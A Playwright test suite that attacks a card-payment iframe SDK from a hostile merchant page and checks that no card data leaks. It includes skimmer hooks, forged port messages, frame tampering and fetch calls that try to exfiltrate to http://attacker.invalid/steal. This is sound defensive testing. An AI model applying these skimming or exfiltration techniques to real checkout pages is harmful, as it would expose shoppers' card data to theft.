// The hostile-merchant suite: the merchant page is the attacker (an XSS, a skimmer, a rogue
// third-party script). Every case attacks, then proves two things: no card number or CVC
// reached the merchant realm, and the fields still take a payment.
import type { Page } from '@playwright/test';
import type { TokenizeResult } from '../../src/index.ts';
import { expect, test } from './fixtures.ts';
import { capturedPort, capturePorts } from './harness/attacker.ts';
import { CardFieldsHarness } from './harness/card-fields-harness.ts';
import { findSecrets, SECRET_CARD } from './harness/secrets.ts';
import { collectLoot, installSkimmer } from './harness/skimmer.ts';

test.beforeEach(async ({ page, demo, checkout }) => {
  await page.addInitScript(installSkimmer, demo.merchantUrl);
  await page.addInitScript(capturePorts, demo.merchantUrl);
  await page.goto(demo.merchantUrl);
  await checkout.waitReady();
});

/** After the attack: the shopper can still pay, and nothing of the card reached the page. */
async function expectFieldsStillWorkAndNothingLeaked(page: Page, checkout: CardFieldsHarness): Promise<void> {
  for (const kind of ['number', 'expiry', 'cvc'] as const) {
    if ((await checkout.value(kind)) !== '') await checkout.clear(kind);
  }
  await checkout.fillCard(SECRET_CARD);
  const result = await checkout.tokenize();
  expect('paymentMethod' in result && result.paymentMethod.card.last4, JSON.stringify(result)).toBe('1111');
  const loot = await page.evaluate(collectLoot);
  expect(findSecrets(loot.records.join('\n'))).toEqual([]);
  expect(findSecrets(loot.dom)).toEqual([]);
}

async function droppedIn(page: Page, checkout: CardFieldsHarness, kind: 'number' | 'expiry' | 'cvc' | 'controller'): Promise<number> {
  const frame = kind === 'controller' ? await controllerFrame(page, checkout) : await checkout.frame(kind);
  return frame.evaluate(() => window.payframeDroppedMessages ?? 0);
}

/** The drop-in's own controller frame (the demo page has a second one, for its split fields). */
async function controllerFrame(page: Page, checkout: CardFieldsHarness) {
  const src = await page.locator(`${checkout.host} iframe[src*="/controller.html#"]`).getAttribute('src');
  return page.frames().find((candidate) => candidate.url() === src)!;
}

/** A merchant page that, like many, lets third-party widgets put frames on it. */
async function openMerchantPageWithThirdPartyFrames(page: Page, merchantUrl: string, checkout: CardFieldsHarness): Promise<void> {
  await page.goto(`${merchantUrl}/test-pages/merchant.html`);
  await checkout.waitReady();
  await page.evaluate(`window.capturedPortFor = ${capturedPort.toString()}`);
}

test.describe('reading the fields from the merchant page', () => {
  test('attack: read the frame DOM (contentDocument, contentWindow.document, frames[])', async ({ page, checkout }) => {
    await checkout.type('number', SECRET_CARD.number);
    const attempts = await page.evaluate(() => {
      const checkoutElement = document.querySelector('payframe-checkout')!;
      const iframe = checkoutElement.shadowRoot!.querySelector('payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
      const results: string[] = [];
      const attempt = (name: string, read: () => unknown) => {
        try {
          results.push(`${name}: ${String(read())}`);
        } catch (error) {
          results.push(`${name}: ${(error as Error).name}`);
        }
      };
      attempt('contentDocument', () => iframe.contentDocument);
      attempt('contentWindow.document', () => iframe.contentWindow!.document.querySelector('input')!.value);
      attempt('contentWindow.frames', () => (iframe.contentWindow as unknown as { input: HTMLInputElement }).input.value);
      attempt('window.frames', () => window.frames.length);
      attempt('activeElement', () => (document.activeElement as HTMLInputElement | null)?.value);
      return results;
    });
    expect(attempts).toEqual(['contentDocument: null', 'contentWindow.document: SecurityError', 'contentWindow.frames: SecurityError', 'window.frames: 0', 'activeElement: undefined']);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: listen to every message, port message and event while the shopper types', async ({ page, checkout }) => {
    await checkout.fillCard(SECRET_CARD);
    const loot = await page.evaluate(collectLoot);
    expect(loot.records.filter((entry) => entry.startsWith('port in:')).length).toBeGreaterThan(5);
    expect(findSecrets(loot.records.join('\n'))).toEqual([]);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: open the fields-origin BroadcastChannel from the merchant page', async ({ page, checkout }) => {
    const checkoutId = await page.evaluate(() => {
      const src = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('iframe[src*="controller"]')!.getAttribute('src')!;
      return new URLSearchParams(new URL(src).hash.slice(1)).get('checkout')!;
    });
    // Same channel name, but the merchant origin's own channel: nothing crosses.
    await page.evaluate((id) => {
      const channel = new BroadcastChannel(`payframe:${id}`);
      (window as unknown as { heard: unknown[] }).heard = [];
      channel.onmessage = (event) => (window as unknown as { heard: unknown[] }).heard.push(event.data);
      channel.postMessage({ type: 'collect', collectId: 'AAAAAAAAAAAAAAAAAAAAAAAA' });
    }, checkoutId);
    await checkout.fillCard(SECRET_CARD);
    await checkout.tokenize();
    expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });
});

test.describe('forged messages to the frames', () => {
  test('attack: a forged tokenize to a field frame is dropped', async ({ page, checkout }) => {
    const before = await droppedIn(page, checkout, 'number');
    await page.evaluate(() => capturedPortFor('number').postMessage({ type: 'tokenize', requestId: 'forged-0001', publishableKey: 'pk_test_x', fields: ['number'] }));
    await expect.poll(() => droppedIn(page, checkout, 'number')).toBe(before + 1);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: a forged "value" message to the controller is dropped; the typed card is what gets tokenized', async ({ page, checkout }) => {
    await checkout.fillCard(SECRET_CARD);
    const before = await droppedIn(page, checkout, 'controller');
    await page.evaluate(() => capturedPortFor('controller').postMessage({ type: 'value', collectId: 'AAAAAAAAAAAAAAAAAAAAAAAA', field: 'number', value: '4000056655665556' }));
    await expect.poll(() => droppedIn(page, checkout, 'controller')).toBe(before + 1);
    const result = await checkout.tokenize();
    expect('paymentMethod' in result && result.paymentMethod.card.last4).toBe('1111');
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: a forged tokenize asking for the result elsewhere answers only on the port', async ({ page, demo, checkout }) => {
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await checkout.fillCard(SECRET_CARD);
    const reply = await page.evaluate(
      ({ key }) =>
        new Promise<unknown>((resolve) => {
          const port = capturedPortFor('controller');
          port.addEventListener('message', (event) => resolve(event.data));
          port.postMessage({ type: 'tokenize', requestId: 'forged-0002', publishableKey: key, fields: ['number', 'expiry', 'cvc'], replyTo: 'http://attacker.invalid/collect', targetOrigin: '*' });
        }),
      { key: demo.publishableKey },
    );
    expect(reply).toMatchObject({ type: 'tokenize-result', requestId: 'forged-0002', result: { paymentMethod: { card: { last4: '1111' } } } });
    expect(requests.filter((url) => url.includes('attacker.invalid'))).toEqual([]);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: a forged gateway URL in tokenize and configure is ignored; cards go to the configured gateway only', async ({ page, demo, checkout }) => {
    const gatewayPosts: string[] = [];
    page.on('request', (request) => {
      if (request.method() === 'POST') gatewayPosts.push(request.url());
    });
    await page.evaluate(() => {
      for (const kind of ['number', 'expiry', 'cvc']) capturedPortFor(kind).postMessage({ type: 'configure', options: { gateway: 'http://attacker.invalid', gatewayUrl: 'http://attacker.invalid' } });
    });
    await checkout.fillCard(SECRET_CARD);
    await page.evaluate(
      ({ key }) =>
        capturedPortFor('controller').postMessage({ type: 'tokenize', requestId: 'forged-0003', publishableKey: key, fields: ['number', 'expiry', 'cvc'], gatewayUrl: 'http://attacker.invalid', gateway: 'http://attacker.invalid' }),
      { key: demo.publishableKey },
    );
    await expect.poll(() => gatewayPosts.length).toBe(1);
    expect(gatewayPosts).toEqual([`${demo.gatewayUrl}/v1/payment_methods`]);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: tokenize forged straight to the controller of an empty checkout is refused by the controller itself', async ({ page, demo, checkout, gatewayTraffic }) => {
    const reply = await page.evaluate(
      ({ key }) =>
        new Promise<{ result: TokenizeResult }>((resolve) => {
          const port = capturedPortFor('controller');
          port.addEventListener('message', (event) => resolve(event.data));
          port.postMessage({ type: 'tokenize', requestId: 'forged-0004', publishableKey: key, fields: ['number', 'expiry', 'cvc'] });
        }),
      { key: demo.publishableKey },
    );
    expect(reply.result).toEqual({ error: { code: 'incomplete_number', message: 'Your card number is incomplete.', field: 'number' } });
    expect(gatewayTraffic.tokenizations()).toHaveLength(0);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: a forged tokenize naming another key (a secret key) still tokenizes only with the key the frames were served for', async ({ page, demo, checkout, gatewayTraffic }) => {
    await checkout.fillCard(SECRET_CARD);
    await page.evaluate(() => capturedPortFor('controller').postMessage({ type: 'tokenize', requestId: 'forged-0005', publishableKey: 'sk_test_stolen', fields: ['number', 'expiry', 'cvc'] }));
    await expect.poll(() => gatewayTraffic.tokenizations().length).toBe(1);
    expect(gatewayTraffic.tokenizations()[0]!.headers()['authorization']).toBe(`Bearer ${demo.publishableKey}`);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: a replayed handshake cannot swap the port of a connected frame', async ({ page, demo, checkout }) => {
    const before = await droppedIn(page, checkout, 'number');
    const heardOnNewPort = await page.evaluate(
      async ({ fieldsOrigin }) => {
        const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
        const checkoutId = new URLSearchParams(new URL(iframe.src).hash.slice(1)).get('checkout');
        const channel = new MessageChannel();
        const heard: unknown[] = [];
        channel.port1.onmessage = (event) => heard.push(event.data);
        iframe.contentWindow!.postMessage({ payframe: 1, type: 'connect', checkout: checkoutId }, fieldsOrigin, [channel.port2]);
        channel.port1.postMessage({ type: 'focus' });
        (window as unknown as { replayHeard: unknown[] }).replayHeard = heard;
        return heard.length;
      },
      { fieldsOrigin: demo.fieldsOrigin },
    );
    expect(heardOnNewPort).toBe(0);
    await expect.poll(() => droppedIn(page, checkout, 'number')).toBe(before + 1);
    await checkout.type('number', '42');
    // The frame still talks to the SDK's port (a change event arrived), never to the attacker's.
    await expect(checkout.errorLine('number')).toHaveText('');
    expect(await page.evaluate(() => (window as unknown as { replayHeard: unknown[] }).replayHeard)).toEqual([]);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: a hello forged to the SDK by another frame on the page is ignored', async ({ page, demo, checkout }) => {
    await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
    // A third-party frame (another origin) inside the merchant page pretends to be a field.
    const attackerUrl = `${demo.merchantUrl.replace('localhost', '127.0.0.1')}/test-pages/blank.html`;
    const channelsBefore = await page.evaluate(() => window.capturedPorts!.length);
    await page.evaluate((url) => {
      const frame = document.createElement('iframe');
      frame.src = url;
      frame.id = 'third-party';
      document.body.append(frame);
      return new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    }, attackerUrl);
    const attacker = page.frames().find((frame) => frame.url() === attackerUrl)!;
    const checkoutId = await page.evaluate(() => new URLSearchParams(new URL(document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('iframe[src*="controller"]')!.getAttribute('src')!).hash.slice(1)).get('checkout'));
    await attacker.evaluate(
      ({ id, merchant }) => {
        for (const frame of ['number', 'expiry', 'cvc', 'controller']) window.parent.postMessage({ payframe: 1, type: 'hello', frame, checkout: id }, merchant);
        window.parent.postMessage({ type: 'tokenize-result', requestId: 'x', result: { paymentMethod: { id: 'pm_fake' } } }, merchant);
      },
      { id: checkoutId, merchant: demo.merchantUrl },
    );
    // The hellos were delivered (the skimmer heard them), yet the SDK made no new port.
    await expect.poll(async () => (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length).toBeGreaterThanOrEqual(4);
    expect(await page.evaluate(() => window.capturedPorts!.length)).toBe(channelsBefore);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: "connect" from the right origin but the wrong window (a same-origin child frame) is dropped', async ({ page, demo, checkout }) => {
    await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
    // A raw field frame the page embeds itself, so no SDK answers its hello first.
    const checkoutId = 'AttackAttackAttackAttack';
    await page.evaluate(
      ({ fieldsOrigin, merchant, id, key }) => {
        const field = document.createElement('iframe');
        field.id = 'raw-field';
        field.src = `${fieldsOrigin}/frames/${key}/number.html#${new URLSearchParams({ frame: 'number', checkout: id, host: merchant })}`;
        const helper = document.createElement('iframe');
        helper.id = 'same-origin-helper';
        helper.src = `${merchant}/test-pages/blank.html`;
        document.body.append(field, helper);
        return Promise.all([field, helper].map((frame) => new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))));
      },
      { fieldsOrigin: demo.fieldsOrigin, merchant: demo.merchantUrl, id: checkoutId, key: demo.publishableKey },
    );
    const helper = page.frames().find((frame) => frame.url().endsWith('/test-pages/blank.html'))!;
    const rawField = page.frames().find((frame) => frame.url().includes(`checkout=${checkoutId}`))!;
    const fromHelper = await helper.evaluate(
      ({ fieldsOrigin, id }) =>
        new Promise<unknown[]>((resolve) => {
          const target = (window.parent.document.getElementById('raw-field') as HTMLIFrameElement).contentWindow!;
          const channel = new MessageChannel();
          const heard: unknown[] = [];
          channel.port1.onmessage = (event) => heard.push(event.data);
          target.postMessage({ payframe: 1, type: 'connect', checkout: id }, fieldsOrigin, [channel.port2]);
          // The genuine parent connects next: if the helper's port had been taken, it would hear "ready".
          setTimeout(() => resolve(heard), 0);
        }),
      { fieldsOrigin: demo.fieldsOrigin, id: checkoutId },
    );
    expect(fromHelper).toEqual([]);
    await expect.poll(() => rawField.evaluate(() => window.payframeDroppedMessages ?? 0)).toBe(1);
    const fromParent = await page.evaluate(
      ({ fieldsOrigin, id }) =>
        new Promise<unknown>((resolve) => {
          const target = (document.getElementById('raw-field') as HTMLIFrameElement).contentWindow!;
          const channel = new MessageChannel();
          channel.port1.onmessage = (event) => resolve(event.data);
          target.postMessage({ payframe: 1, type: 'connect', checkout: id }, fieldsOrigin, [channel.port2]);
        }),
      { fieldsOrigin: demo.fieldsOrigin, id: checkoutId },
    );
    expect(fromParent).toMatchObject({ type: expect.stringMatching(/^(ready|change)$/) });
  });

  test('attack: messages of every wrong shape to every frame are dropped and counted', async ({ page, checkout }) => {
    const junk = [null, 42, 'tokenize', [], { type: 'focus', extra: { deep: [1, 2, 3] }, value: 1 }, { type: 'configure' }, { type: 'configure', options: { placeholder: 'x'.repeat(101) } }, { type: 'tokenize' }, { payframe: 1 }];
    const kinds = ['number', 'expiry', 'cvc', 'controller'] as const;
    const before = await Promise.all(kinds.map((kind) => droppedIn(page, checkout, kind)));
    await page.evaluate((messages) => {
      for (const kind of ['number', 'expiry', 'cvc', 'controller']) for (const message of messages) capturedPortFor(kind).postMessage(message);
    }, junk);
    // {type:'focus', extra, value} is a valid focus command once extras are stripped: 8 of 9 are dropped by fields.
    for (const [index, kind] of kinds.entries()) {
      await expect.poll(() => droppedIn(page, checkout, kind), { message: kind }).toBe(before[index]! + (kind === 'controller' ? junk.length : junk.length - 1));
    }
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });
});

test.describe('tampering with the frames', () => {
  test('attack: navigate a field frame away and back: the frame reconnects and works', async ({ page, demo, checkout }) => {
    const numberPorts = () => page.evaluate(() => window.capturedPorts!.filter((entry) => entry.frame === 'number').length);
    const portsBefore = await numberPorts();
    // Away to another page of another site. (about:blank would do too, but Playwright 1.65 on
    // Chromium 156 sometimes loses track of a frame that goes in-process and back.)
    await page.evaluate(async (away) => {
      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
      const original = iframe.src;
      const loaded = () => new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
      iframe.src = away;
      await loaded();
      iframe.src = original;
      await loaded();
    }, `${demo.fieldsOrigin}/nothing-here`);
    // The reloaded frame said hello again and got a fresh port.
    await expect.poll(numberPorts).toBe(portsBefore + 1);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: replace a field frame with a look-alike: the controller never gets a number from it', async ({ page, demo, checkout, gatewayTraffic }) => {
    await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
    await checkout.fillCard(SECRET_CARD);
    await page.evaluate((lookAlike) => {
      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
      iframe.src = lookAlike;
    }, `${demo.merchantUrl.replace('localhost', '127.0.0.1')}/test-pages/blank.html`);
    await expect.poll(() => page.frames().some((frame) => frame.url().endsWith('/test-pages/blank.html'))).toBe(true);
    // The SDK still believes the number is complete; the controller asks the fields and the
    // look-alike cannot answer on the fields origin's channel.
    const result = await checkout.tokenize();
    expect(result).toMatchObject({ error: { code: 'fields_unavailable' } });
    expect(gatewayTraffic.tokenizations()).toHaveLength(0);
  });

  test('attack: remove the frames and insert them again: they reload and work', async ({ page, checkout }) => {
    await checkout.type('number', '4242');
    const reloads = await page.evaluate(() => {
      const frames = [...document.querySelector('payframe-checkout')!.shadowRoot!.querySelectorAll('payframe-card-number, payframe-card-expiry, payframe-card-cvc')].map((field) => field.shadowRoot!.querySelector('iframe')!);
      const parents = frames.map((frame) => frame.parentNode!);
      frames.forEach((frame) => frame.remove());
      frames.forEach((frame, index) => parents[index]!.prepend(frame));
      return frames.length;
    });
    expect(reloads).toBe(3);
    await expect(checkout.input('number')).toHaveValue('');
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: embed the fields from an origin the fields server does not allow (frame-ancestors)', async ({ page, demo }) => {
    const otherOrigin = demo.merchantUrl.replace('localhost', '127.0.0.1');
    const blocked = await page.context().newPage();
    await blocked.goto(`${otherOrigin}/test-pages/blank.html`);
    await blocked.evaluate((src) => {
      const iframe = document.createElement('iframe');
      iframe.src = src;
      document.body.append(iframe);
      return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
    }, `${demo.fieldsOrigin}/frames/${demo.publishableKey}/number.html#frame=number&checkout=AttackAttackAttackAttack&host=${encodeURIComponent(otherOrigin)}`);
    // The browser refused to render the frame: it never ran our page.
    const frame = blocked.frames().find((candidate) => candidate !== blocked.mainFrame())!;
    const ran = await frame.evaluate(() => document.querySelector('input') !== null).catch(() => false);
    expect(ran).toBe(false);
    await blocked.close();
  });

  test('attack: embed a field frame claiming to be another host: it refuses to start', async ({ page, demo }) => {
    // The merchant page embeds a frame whose URL claims a different host origin.
    await page.evaluate(
      ({ fieldsOrigin, key }) => {
        const iframe = document.createElement('iframe');
        iframe.id = 'lying-frame';
        iframe.src = `${fieldsOrigin}/frames/${key}/number.html#${new URLSearchParams({ frame: 'number', checkout: 'AttackAttackAttackAttack', host: 'https://bank.example' })}`;
        document.body.append(iframe);
        return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
      },
      { fieldsOrigin: demo.fieldsOrigin, key: demo.publishableKey },
    );
    const lying = page.frames().find((frame) => frame.url().includes('checkout=AttackAttackAttackAttack'))!;
    expect(await lying.evaluate(() => ({ started: document.body.dataset.field ?? null, autocomplete: document.querySelector('input')!.autocomplete }))).toEqual({ started: null, autocomplete: '' });
  });

  test('attack: open one kind of field page as another (cvc.html as the number): it refuses to start', async ({ page, demo }) => {
    await page.evaluate(
      ({ fieldsOrigin, host, key }) => {
        const iframe = document.createElement('iframe');
        iframe.src = `${fieldsOrigin}/frames/${key}/cvc.html#${new URLSearchParams({ frame: 'number', checkout: 'MixedKindMixedKindMixed', host })}`;
        document.body.append(iframe);
        return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
      },
      { fieldsOrigin: demo.fieldsOrigin, host: new URL(page.url()).origin, key: demo.publishableKey },
    );
    const mixed = page.frames().find((frame) => frame.url().includes('checkout=MixedKindMixedKindMixed'))!;
    // Same origin, same host: only the page's own kind is refused, so the CVC page never runs as a number.
    expect(await mixed.evaluate(() => ({ started: document.body.dataset.field ?? null, autocomplete: document.querySelector('input')!.autocomplete }))).toEqual({ started: null, autocomplete: '' });
  });

  test('attack: two checkouts on one page: each tokenizes its own card only', async ({ page, demo }) => {
    await page.evaluate((key) => {
      const second = document.createElement('payframe-checkout');
      second.id = 'second';
      second.setAttribute('publishable-key', key);
      document.body.prepend(second);
      return new Promise((resolve) => second.addEventListener('payframe-ready', resolve, { once: true }));
    }, demo.publishableKey);
    const first = new CardFieldsHarness(page, '#checkout');
    const second = new CardFieldsHarness(page, '#second');
    await first.fillCard(SECRET_CARD);
    await second.fillCard({ number: '5555555555554444', expiry: '0530', cvc: '321' });
    const [a, b] = [await first.tokenize(), await second.tokenize()];
    expect('paymentMethod' in a && a.paymentMethod.card.last4).toBe('1111');
    expect('paymentMethod' in b && b.paymentMethod.card.last4).toBe('4444');
    const loot = await page.evaluate(collectLoot);
    expect(findSecrets(loot.records.join('\n'))).toEqual([]);
    expect(findSecrets(loot.records.join('\n'), { number: '5555555555554444', cvc: '321' })).toEqual([]);
  });

  test('attack: flood every frame with 10,000 messages while the shopper types', async ({ page, demo, checkout }) => {
    const flood = page.evaluate(
      async ({ fieldsOrigin }) => {
        const frames = [...document.querySelector('payframe-checkout')!.shadowRoot!.querySelectorAll('iframe')];
        for (let i = 0; i < 10_000; i++) {
          const frame = frames[i % frames.length]!;
          frame.contentWindow!.postMessage({ payframe: 1, type: 'connect', junk: i }, fieldsOrigin);
          capturedPortFor(['number', 'expiry', 'cvc', 'controller'][i % 4]!).postMessage({ type: 'noise', i });
          if (i % 500 === 0) await new Promise((resolve) => setTimeout(resolve, 0));
        }
      },
      { fieldsOrigin: demo.fieldsOrigin },
    );
    await checkout.fillCard(SECRET_CARD);
    await flood;
    await expect(checkout.input('number')).toHaveValue('4111 1111 1111 1111');
    const dropped = await Promise.all((['number', 'expiry', 'cvc', 'controller'] as const).map((kind) => droppedIn(page, checkout, kind)));
    expect(dropped.reduce((sum, count) => sum + count, 0)).toBe(20_000);
    const result = await checkout.tokenize();
    expect('paymentMethod' in result && result.paymentMethod.card.last4).toBe('1111');
  });
});

test.describe('what a compromised frame could do', () => {
  test('attack: the field frames cannot send anything anywhere (connect-src none)', async ({ page, checkout }) => {
    const frame = await checkout.frame('number');
    const outcome = await frame.evaluate(() => fetch('http://attacker.invalid/steal', { method: 'POST', body: 'x' }).then(() => 'sent', (error: Error) => error.name));
    expect(outcome).toBe('TypeError');
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: the controller can reach the configured gateway and nothing else', async ({ page, checkout }) => {
    const controller = page.frames().find((candidate) => candidate.url().includes('/controller.html#'))!;
    const outcome = await controller.evaluate(() => fetch('http://attacker.invalid/steal').then(() => 'sent', (error: Error) => error.name));
    expect(outcome).toBe('TypeError');
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: the fields origin keeps no card data in its storage after a payment', async ({ page, checkout }) => {
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
    for (const frame of page.frames().filter((candidate) => candidate.url().includes('.html#frame='))) {
      const stored = await frame.evaluate(async () => {
        const databases = (await indexedDB.databases?.()) ?? [];
        return JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, databases });
      });
      expect(findSecrets(stored)).toEqual([]);
      expect(stored).toBe('{"local":{},"session":{},"cookie":"","databases":[]}');
    }
  });

  test('attack: the gateway refuses the merchant origin (CORS and Origin check), so a page cannot tokenize itself', async ({ page, demo, checkout }) => {
    // On a page whose own CSP would not stop the request: the gateway has to.
    await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
    const key = demo.publishableKey;
    const body = 'type=card&card[number]=4242424242424242&card[exp_month]=12&card[exp_year]=2034';
    // With the key in a header the browser asks first (preflight) and the gateway says no.
    const preflighted = await page.evaluate(
      ({ gatewayUrl, key, body }) =>
        fetch(`${gatewayUrl}/v1/payment_methods`, { method: 'POST', headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/x-www-form-urlencoded' }, body }).then(
          () => 'answered',
          (error: Error) => error.name,
        ),
      { gatewayUrl: demo.gatewayUrl, key, body },
    );
    expect(preflighted).toBe('TypeError');
    // A "simple" request leaves without asking; the gateway's Origin check refuses it unread.
    const refused = page.waitForResponse((response) => response.url() === `${demo.gatewayUrl}/v1/payment_methods` && response.request().method() === 'POST');
    await page.evaluate(({ gatewayUrl, body }) => fetch(`${gatewayUrl}/v1/payment_methods`, { method: 'POST', mode: 'no-cors', body: new URLSearchParams(body) }), { gatewayUrl: demo.gatewayUrl, body });
    expect((await refused).status()).toBe(403);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });
});

test.beforeEach(async ({ page }) => {
  await page.evaluate(`window.capturedPortFor = ${capturedPort.toString()}`);
});
